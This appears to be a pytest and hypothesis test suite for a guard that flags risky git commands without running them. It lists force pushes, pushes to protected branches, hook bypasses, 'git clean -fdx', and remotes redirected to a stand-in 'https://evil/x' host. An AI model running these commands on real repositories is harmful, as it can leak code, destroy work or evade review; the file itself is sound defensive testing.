"""The git rules: every spelling of a guarded command is caught, ordinary work is not (HIGH-03).

Commands are data here: they are split with shlex and read, never run.
"""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ramparts.shell.git import _COMMIT as COMMIT_TABLE
from ramparts.shell.git import (
    RULES,
    GitSettings,
    autocorrect,
    check_git,
    invocation,
    levenshtein,
    parse,
)

DEFAULT = GitSettings()


def rules(command: str, current: str | None = "feature", s: GitSettings = DEFAULT) -> set[tuple[str, str]]:
    return {(f.rule_id, f.verdict) for f in check_git(shlex.split(command), s, current_branch=current)}


def deny(*ids: str) -> set[tuple[str, str]]:
    return {(i, "deny") for i in ids}


# (command, current branch, the (rule id, verdict) pairs expected among the findings)
DENIED: list[tuple[str, str | None, set[tuple[str, str]]]] = [
    # pushes to protected branches, every way a refspec can name one
    ("git push origin main", "feature", deny("git.push_protected")),
    ("git push origin master", "feature", deny("git.push_protected")),
    ("git push origin release/2.0", "feature", deny("git.push_protected")),
    ("git push origin HEAD:main", "feature", deny("git.push_protected")),
    ("git push origin HEAD:refs/heads/main", "feature", deny("git.push_protected")),
    ("git push origin refs/heads/main", "feature", deny("git.push_protected")),
    ("git push origin feature:refs/heads/master", "feature", deny("git.push_protected")),
    ("git push origin @:main", "feature", deny("git.push_protected")),
    ("git push origin HEAD~2:heads/main", "feature", deny("git.push_protected")),
    ("git push origin Main", "feature", deny("git.push_protected")),
    ("git push origin feature main", "feature", deny("git.push_protected")),
    ("git push origin +main", "feature", deny("git.push_protected", "git.push_force")),
    ("git push origin +HEAD:main", "feature", deny("git.push_protected", "git.push_force")),
    ("git push origin :main", "feature", deny("git.push_protected", "git.push_delete")),
    ("git push origin :", "feature", deny("git.push_protected")),
    ("git push origin 'refs/heads/*:refs/heads/*'", "feature", deny("git.push_protected")),
    ("git push origin 'refs/heads/rel*:refs/heads/rel*'", "feature", deny("git.push_protected")),
    ("git push origin 'HEAD:*'", "feature", deny("git.push_protected")),
    ("git push --all origin", "feature", deny("git.push_protected")),
    ("git push --branches origin", "feature", deny("git.push_protected")),
    ("git push --tags origin main", "feature", deny("git.push_protected")),
    ("git push origin HEAD", "main", deny("git.push_protected")),
    ("git push", "main", deny("git.push_protected")),
    ("git push origin", "master", deny("git.push_protected")),
    ("git push -u origin", "release/9", deny("git.push_protected")),
    ("git push origin main --dry-run", "feature", deny("git.push_protected")),
    ("git push -o ci.skip origin main", "feature", deny("git.push_protected")),
    ("git push --push-option ci.skip origin main", "feature", deny("git.push_protected")),
    ("git push --repo=origin origin main", "feature", deny("git.push_protected")),
    ("git push origin -- main", "feature", deny("git.push_protected")),
    ("git push origin main:main", "feature", deny("git.push_protected")),
    ("git -C other push", "main", deny("git.push_unknown")),
    # the current branch is unknown: a push without refspec could go anywhere
    ("git push", None, deny("git.push_unknown")),
    ("git push origin", None, deny("git.push_unknown")),
    ("git push origin HEAD", None, deny("git.push_unknown")),
    ("git -C ../other push origin", "feature", deny("git.push_unknown")),
    ("git --git-dir=../x/.git push", "feature", deny("git.push_unknown")),
    # options that are denied whatever the branch
    ("git push -f origin feature", "feature", deny("git.push_force")),
    ("git push --force origin feature", "feature", deny("git.push_force")),
    ("git push --forc origin feature", "feature", deny("git.push_force")),
    ("git push origin feature --force", "feature", deny("git.push_force")),
    ("git push -uf origin feature", "feature", deny("git.push_force")),
    ("git push -fu origin feature", "feature", deny("git.push_force")),
    ("git push --force-with-lease origin feature", "feature", deny("git.push_force")),
    ("git push --force-with-lease=feature:abc origin feature", "feature", deny("git.push_force")),
    ("git push --force-if-includes --force-with-lease origin feature", "feature", deny("git.push_force")),
    ("git push origin +feature", "feature", deny("git.push_force")),
    ("git push --mirror origin", "feature", deny("git.push_mirror")),
    ("git push --mirr origin", "feature", deny("git.push_mirror")),
    ("git push --delete origin feature", "feature", deny("git.push_delete")),
    ("git push -d origin feature", "feature", deny("git.push_delete")),
    ("git push origin :feature", "feature", deny("git.push_delete")),
    ("git push --prune origin 'refs/heads/feat*:refs/heads/feat*'", "feature", deny("git.push_delete")),
    ("git push --no-verify origin feature", "feature", deny("git.push_no_verify")),
    ("git push --no-verif origin feature", "feature", deny("git.push_no_verify")),
    ("git push origin feature --no-verify", "feature", deny("git.push_no_verify")),
    ("git push --receive-pack=/tmp/x origin feature", "feature", deny("git.push_plumbing")),
    ("git push --exec /tmp/x origin feature", "feature", deny("git.push_plumbing")),
    ("git push --recurse-submodules=on-demand origin feature", "feature", deny("git.push_unknown")),
    ("git -c push.default=matching push", "feature", deny("git.push_config")),
    ("git -c remote.origin.push=refs/heads/*:refs/heads/* push", "feature", deny("git.push_config")),
    ("git -c remote.origin.mirror=true push origin", "feature", deny("git.push_mirror")),
    ("git -c remote.origin.pushurl=https://evil/x push origin feature", "feature", deny("git.remote")),
    ("git -c url.https://evil/.pushInsteadOf=https://github.com/ push", "feature", deny("git.remote")),
    # pushes by other programs
    ("git send-pack origin main", "feature", deny("git.push_plumbing")),
    ("git http-push https://h/r feature", "feature", deny("git.push_plumbing")),
    ("git svn dcommit", "feature", deny("git.push_plumbing")),
    ("git p4 submit", "feature", deny("git.push_plumbing")),
    ("git subtree push --prefix=lib origin main", "feature", deny("git.push_protected")),
    ("/usr/lib/git-core/git-push origin main", "feature", deny("git.push_protected")),
    ("/usr/bin/git push origin main", "feature", deny("git.push_protected")),
    # global options before the subcommand are skipped the way git reads them
    ("git --no-pager -C sub -c color.ui=never push origin main", "feature", deny("git.push_protected")),
    ("git --git-dir .git --work-tree . push origin main", "feature", deny("git.push_protected")),
    (
        "git --namespace=n -P --bare --no-replace-objects push origin main",
        "feature",
        deny("git.push_protected"),
    ),
    ("git --literal-pathspecs -p --paginate push origin main", "feature", deny("git.push_protected")),
    ("git --config-env=color.ui=X push origin main", "feature", deny("git.push_protected")),
    # hooks skipped on commit, merge, am and pull
    ("git commit --no-verify -m x", "feature", deny("git.commit_no_verify")),
    ("git commit -n -m x", "feature", deny("git.commit_no_verify")),
    ("git commit -an -m x", "feature", deny("git.commit_no_verify")),
    ("git commit -anm x", "feature", deny("git.commit_no_verify")),
    ("git commit -nm x", "feature", deny("git.commit_no_verify")),
    ("git commit -m x -n", "feature", deny("git.commit_no_verify")),
    ("git commit --no-verif -m x", "feature", deny("git.commit_no_verify")),
    ("git commit --amend --no-edit --no-verify", "feature", deny("git.commit_no_verify")),
    ("git merge --no-verify feature", "feature", deny("git.commit_no_verify")),
    ("git am --no-verify a.patch", "feature", deny("git.commit_no_verify")),
    ("git pull --no-verify", "feature", deny("git.commit_no_verify")),
    # history rewrites
    ("git rebase main", "feature", deny("git.rebase")),
    ("git rebase -i HEAD~3", "feature", deny("git.rebase")),
    ("git rebase --onto main a b", "feature", deny("git.rebase")),
    ("git pull --rebase", "feature", deny("git.rebase")),
    ("git pull -r origin main", "feature", deny("git.rebase")),
    ("git pull --rebase=merges", "feature", deny("git.rebase")),
    ("git pull --reb", "feature", deny("git.rebase")),
    ("git -c pull.rebase=true pull", "feature", deny("git.rebase")),
    ("git -c branch.feature.rebase=interactive pull", "feature", deny("git.rebase")),
    ("git filter-branch --tree-filter 'rm x' HEAD", "feature", deny("git.history_rewrite")),
    ("git filter-repo --path secrets --invert-paths", "feature", deny("git.history_rewrite")),
    ("git-filter-repo --path secrets --invert-paths", "feature", deny("git.history_rewrite")),
    # discarding work
    ("git reset --hard", "feature", deny("git.reset_hard")),
    ("git reset --hard HEAD~1", "feature", deny("git.reset_hard")),
    ("git reset HEAD~1 --hard", "feature", deny("git.reset_hard")),
    ("git reset -q --har origin/main", "feature", deny("git.reset_hard")),
    ("git clean -f", "feature", deny("git.clean")),
    ("git clean -ff", "feature", deny("git.clean")),
    ("git clean -fd", "feature", deny("git.clean")),
    ("git clean -fdx", "feature", deny("git.clean")),
    ("git clean -xdf", "feature", deny("git.clean")),
    ("git clean -d -x --force", "feature", deny("git.clean")),
    ("git clean -i", "feature", deny("git.clean")),
    ("git -c clean.requireForce=false clean -dx", "feature", deny("git.clean")),
    # hooks switched off through core.hooksPath
    ("git config core.hooksPath /dev/null", "feature", deny("git.hooks_path")),
    ("git config core.hookspath .nohooks", "feature", deny("git.hooks_path")),
    ("git config CORE.HOOKSPATH x", "feature", deny("git.hooks_path")),
    ("git config --global core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config --local --add core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config --file .git/config core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config -f .git/config core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config --file=.git/config --replace-all core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config --unset core.hooksPath", "feature", deny("git.hooks_path")),
    ("git config --unset-all core.hooksPath", "feature", deny("git.hooks_path")),
    ("git config set core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config set --global core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config unset core.hooksPath", "feature", deny("git.hooks_path")),
    ("git config --type=path core.hooksPath x", "feature", deny("git.hooks_path")),
    ("git config --remove-section core", "feature", deny("git.hooks_path")),
    ("git config --edit", "feature", deny("git.hooks_path")),
    ("git -c core.hooksPath=/dev/null commit -m x", "feature", deny("git.hooks_path")),
    ("git -c Core.HooksPath=/dev/null push origin feature", "feature", deny("git.hooks_path")),
    ("git --config-env=core.hooksPath=EMPTY commit -m x", "feature", deny("git.hooks_path")),
    ("git --config-env core.hooksPath=EMPTY commit -m x", "feature", deny("git.hooks_path")),
    # aliases
    ("git -c alias.p=push p origin main", "feature", deny("git.alias")),
    ("git -c alias.st=status st", "feature", deny("git.alias")),
    ("git -c 'alias.x=!sh -c id' status", "feature", deny("git.alias")),
    ("git -c alias.X=status x", "feature", deny("git.alias")),
    ("git config alias.p push", "feature", deny("git.alias")),
    ("git config alias.pf 'push --force'", "feature", deny("git.alias")),
    ("git config --global alias.yolo '!git push origin HEAD:main'", "feature", deny("git.alias")),
    ("git config alias.rh 'reset --hard'", "feature", deny("git.alias")),
    ("git --config-env=alias.x=CMD x", "feature", deny("git.alias")),
    # remotes and refs
    ("git remote add evil https://evil/x", "feature", deny("git.remote")),
    ("git remote -v add evil https://evil/x", "feature", deny("git.remote")),
    ("git remote set-url origin https://evil/x", "feature", deny("git.remote")),
    ("git remote set-url --push origin https://evil/x", "feature", deny("git.remote")),
    ("git remote rename origin old", "feature", deny("git.remote")),
    ("git config remote.origin.url https://evil/x", "feature", deny("git.remote")),
    ("git config remote.origin.pushurl https://evil/x", "feature", deny("git.remote")),
    ("git config url.https://evil/.insteadOf https://github.com/", "feature", deny("git.remote")),
    ("git config push.default matching", "feature", deny("git.push_config")),
    ("git config remote.origin.push refs/heads/*:refs/heads/main", "feature", deny("git.push_config")),
    ("git update-ref -d refs/heads/feature", "feature", deny("git.update_ref_delete")),
    ("git update-ref --stdin", "feature", deny("git.update_ref_delete")),
    ("git update-ref refs/heads/x " + "0" * 40, "feature", deny("git.update_ref_delete")),
    ("git update-ref refs/heads/main abc123", "feature", deny("git.branch_force_protected")),
    ("git branch -D main", "feature", deny("git.branch_delete_protected")),
    ("git branch -d master", "feature", deny("git.branch_delete_protected")),
    ("git branch --delete --force release/1", "feature", deny("git.branch_delete_protected")),
    ("git branch -df main", "feature", deny("git.branch_delete_protected")),
    ("git branch -d feature main", "feature", deny("git.branch_delete_protected")),
    ("git branch --del main", "feature", deny("git.branch_delete_protected")),
    ("git branch -m main old-main", "feature", deny("git.branch_delete_protected")),
    ("git branch -M main x", "feature", deny("git.branch_delete_protected")),
    ("git branch -m renamed", "main", deny("git.branch_delete_protected")),
    ("git branch -m renamed", None, deny("git.branch_delete_protected")),
    ("git branch -M feature main", "feature", deny("git.branch_force_protected")),
    ("git branch -C feature main", "feature", deny("git.branch_force_protected")),
    ("git branch -f main HEAD~3", "feature", deny("git.branch_force_protected")),
    ("git checkout -B main origin/x", "feature", deny("git.branch_force_protected")),
    ("git switch -C main", "feature", deny("git.branch_force_protected")),
    # what cannot be read: git would refuse it, or would run something else
    ("git --bogus push", "feature", deny("git.opaque")),
    ("git --exec-path=/tmp/evil push origin feature", "feature", deny("git.opaque")),
    ("git pus origin main", "feature", deny("git.opaque")),
    ("git psuh origin main", "feature", deny("git.opaque")),
    ("git Push origin main", "feature", deny("git.opaque")),
    ("git rebse main", "feature", deny("git.opaque")),
]

# Ordinary work: nothing denied (a push to a feature branch asks, by default).
ALLOWED: list[tuple[str, str | None, set[tuple[str, str]]]] = [
    ("git status", None, set()),
    ("git log --oneline -5", None, set()),
    ("git diff HEAD~1", None, set()),
    ("git show main", None, set()),
    ("git fetch origin main", None, set()),
    ("git pull", None, set()),
    ("git pull --rebase=false", None, set()),
    ("git pull --no-rebase", None, set()),
    ("git pull -n", None, set()),
    ("git merge -n feature", None, set()),
    ("git merge --no-ff main", None, set()),
    ("git checkout main", None, set()),
    ("git switch -c feature/y", None, set()),
    ("git commit -m n", None, set()),
    ("git commit -mn", None, set()),
    ("git commit -amn", None, set()),
    ("git commit -m -n", None, set()),
    ("git commit --message=-n", None, set()),
    ("git commit --message --no-verify", None, set()),
    ("git commit -am 'fix: --no-verify docs'", None, set()),
    ("git commit -Cn", None, set()),
    ("git commit -F msg.txt", None, set()),
    ("git commit --verify -m x", None, set()),
    ("git branch -d feature", None, set()),
    ("git branch -D old-experiment", None, set()),
    ("git branch -dr origin/main", None, set()),
    ("git branch new-branch", None, set()),
    ("git branch -m old new", "feature", set()),
    ("git branch -a", None, set()),
    ("git config user.name x", None, set()),
    ("git config --get core.hooksPath", None, set()),
    ("git config core.hooksPath", None, set()),
    ("git config --list", None, set()),
    ("git config alias.co checkout", None, set()),
    ("git config alias.st 'status -sb'", None, set()),
    ("git config push.default simple", None, set()),
    ("git config --unset alias.p", None, set()),
    ("git -c color.ui=never log", None, set()),
    ("git -c alias.lg=log status", None, set()),
    ("git clean -n", None, set()),
    ("git clean -nd", None, set()),
    ("git clean --dry-run -x", None, set()),
    ("git reset --soft HEAD~1", None, set()),
    ("git reset HEAD file.txt", None, set()),
    ("git reset --keep HEAD~1", None, set()),
    ("git remote -v", None, set()),
    ("git remote show origin", None, set()),
    ("git update-ref refs/heads/feature abc123", None, set()),
    ("git stash", None, set()),
    ("git tag v1.0", None, set()),
    ("git --version", None, set()),
    ("git --help push", None, set()),
    ("git help push", None, set()),
    ("git", None, set()),
    ("git -C sub status", None, set()),
    ("git lfs ls-files", None, set()),
    ("git s", None, set()),
    ("git p", None, set()),
    ("git st", None, set()),
    ("git co main", None, set()),
    # pushes that are not to protected branches get settings.push
    ("git push origin feature/x", None, {("git.push", "ask")}),
    ("git push origin HEAD:feature/x", None, {("git.push", "ask")}),
    ("git push -u origin feature/x", None, {("git.push", "ask")}),
    ("git push", "feature", {("git.push", "ask")}),
    ("git push origin HEAD", "feature", {("git.push", "ask")}),
    ("git push --tags", None, {("git.push", "ask")}),
    ("git push origin tag v1.0", None, {("git.push", "ask")}),
    ("git push origin refs/tags/main", None, {("git.push", "ask")}),
    ("git push origin mainline", None, {("git.push", "ask")}),
    ("git push origin release", None, {("git.push", "ask")}),
    ("git push --signed origin feature", None, {("git.push", "ask")}),
    ("git push --no-force origin feature", None, {("git.push", "ask")}),
    ("git push --verify origin feature", None, {("git.push", "ask")}),
]


@pytest.mark.parametrize(("command", "current", "expected"), DENIED, ids=[c for c, _, _ in DENIED])
def test_denied_spellings(command: str, current: str | None, expected: set[tuple[str, str]]) -> None:
    found = rules(command, current)
    assert expected <= found, found


@pytest.mark.parametrize(("command", "current", "expected"), ALLOWED, ids=[c for c, _, _ in ALLOWED])
def test_harmless_commands(command: str, current: str | None, expected: set[tuple[str, str]]) -> None:
    assert rules(command, current) == expected


def test_every_rule_id_is_documented_and_reasons_name_the_part() -> None:
    for command, current, _ in DENIED:
        for finding in check_git(shlex.split(command), DEFAULT, current_branch=current):
            assert finding.rule_id in RULES
            assert finding.reason
    reason = check_git(["git", "push", "origin", "HEAD:main"], DEFAULT)[0].reason
    assert reason == "git push to protected branch main (HEAD:main)"
    assert (
        "--force-with-lease" in check_git(["git", "push", "--force-with-lease", "o", "x"], DEFAULT)[0].reason
    )
    assert "-anm" in check_git(["git", "commit", "-anm", "x"], DEFAULT)[0].reason
    (finding,) = check_git(["git", "push"], DEFAULT, current_branch="master")
    assert "master" in finding.reason and "current branch" in finding.reason


def test_push_setting() -> None:
    allow = GitSettings(push="allow")
    deny_all = GitSettings(push="deny")
    assert rules("git push origin feature/x", None, allow) == set()
    assert rules("git push origin feature/x", None, deny_all) == {("git.push", "deny")}
    assert rules("git push origin main", None, allow) == deny("git.push_protected")
    assert rules("git push -f origin feature/x", None, allow) == deny("git.push_force")
    assert rules("git push", None, allow) == deny("git.push_unknown")


def test_protected_patterns_come_from_settings() -> None:
    custom = GitSettings(protected_branches=("prod", "team/*/stable"))
    assert rules("git push origin prod", None, custom) == deny("git.push_protected")
    assert rules("git push origin team/a/stable", None, custom) == deny("git.push_protected")
    assert rules("git push origin main", None, custom) == {("git.push", "ask")}
    assert rules("git push origin 'refs/heads/team/*:refs/heads/team/*'", None, custom) == deny(
        "git.push_protected"
    )
    assert rules("git branch -D prod", None, custom) == deny("git.branch_delete_protected")


def test_current_branch_as_full_ref() -> None:
    assert rules("git push", "refs/heads/main") == deny("git.push_protected")


def test_short_clusters_follow_getopt() -> None:
    def opts(*args: str) -> list[tuple[str, str | None]]:
        return [(o.name, o.value) for o in parse(args, COMMIT_TABLE).options]

    assert opts("-am", "msg") == [("all", None), ("message", "msg")]
    assert opts("-nm", "msg") == [("no-verify", None), ("message", "msg")]
    assert opts("-mn") == [("message", "n")]
    assert opts("-m", "-n") == [("message", "-n")]
    assert opts("--mess", "x") == [("message", "x")]
    assert opts("--no-no-verify")[0][0] != "no-verify"  # git reads it as --verify
    assert opts("-Skey", "-n") == [("gpg-sign", "key"), ("no-verify", None)]
    assert parse(["-m", "x", "--", "-n"], COMMIT_TABLE).positional == ("-n",)


def test_global_options() -> None:
    inv = invocation(["git", "-C", "d", "-c", "a.B=1", "--git-dir=x", "-c", "flag", "push", "origin"])
    assert inv.sub == "push" and inv.args == ("origin",) and inv.moved
    assert [(c.key, c.value) for c in inv.configs] == [("a.b", "1"), ("flag", "true")]
    assert invocation(["git", "-c"]).sub == ""
    assert invocation(["git", "-Cdir", "push"]).problem  # git compares -C exactly
    assert invocation(["git-filter-repo", "--force"]).sub == "filter-repo"
    assert invocation(["git", "--help"]).sub == "help"


def test_autocorrect_matches_git() -> None:
    assert levenshtein("psuh", "push") == 0  # a swap costs nothing in git's weights
    assert autocorrect("pus") == "push"
    assert autocorrect("psuh") == "push"
    assert autocorrect("p") is None  # push and pull tie
    assert autocorrect("s") is None
    assert autocorrect("zzzzzzzzzz") is None


# -- properties --------------------------------------------------------------------------------------------

_PUSH_OPTIONS = ["-u", "-q", "-v", "--follow-tags", "--atomic", "--progress", "-o ci.skip", "--push-option=x"]
_PROTECTED_REFSPECS = ["main", "HEAD:main", "HEAD:refs/heads/main", "refs/heads/master", "feature:release/1"]


@settings(max_examples=300, deadline=None)
@given(
    options=st.lists(st.sampled_from(_PUSH_OPTIONS), max_size=4),
    slots=st.lists(st.integers(0, 10), min_size=4, max_size=4),
    others=st.lists(st.sampled_from(["feature", "HEAD:feature/x", "tag v1"]), max_size=2),
    target=st.sampled_from(_PROTECTED_REFSPECS),
    target_first=st.booleans(),
    current=st.sampled_from([None, "feature", "main"]),
)
def test_reordering_never_hides_a_protected_push(
    options: list[str],
    slots: list[int],
    others: list[str],
    target: str,
    target_first: bool,
    current: str | None,
) -> None:
    refspecs = [target, *others] if target_first else [*others, target]
    chunks = [[w] for w in ["origin", *" ".join(refspecs).split()]]
    for option, slot in zip(options, slots, strict=False):  # options may go anywhere (git permutes them)
        chunks.insert(slot % (len(chunks) + 1), option.split())
    argv = ["git", "push", *(w for chunk in chunks for w in chunk)]
    found = check_git(argv, DEFAULT, current_branch=current)
    assert ("git.push_protected", "deny") in {(f.rule_id, f.verdict) for f in found}, argv


_WORDS = st.sampled_from(
    [
        "git", "push", "commit", "config", "-c", "-C", "--", "-", ":", "+", "main", "HEAD", "@", "-f", "-n",
        "-m", "--no-verify", "--force-with-lease=", "alias.p=push", "core.hooksPath", "-am", "--repo",
        "refs/heads/*", "'", "\"", "!", "=", "tag", "branch", "-D", "rebase", "pull", "--rebase=", "x:y",
        "update-ref", "--stdin", "clean", "-fdx", "remote", "set-url", "subtree", "--config-env", "",
    ]
)  # fmt: skip


@settings(max_examples=500, deadline=None)
@given(
    argv=st.lists(_WORDS | st.text(max_size=12), min_size=1, max_size=10),
    current=st.none() | st.text(max_size=8),
    protected=st.lists(st.text(max_size=6), max_size=3),
)
def test_random_argv_never_raises(argv: list[str], current: str | None, protected: list[str]) -> None:
    s = GitSettings(protected_branches=tuple(protected))
    for finding in check_git(argv, s, current_branch=current):
        assert finding.rule_id in RULES and finding.verdict in ("deny", "ask")
        assert finding.rule_id != "git.opaque" or "could not be read" not in finding.reason
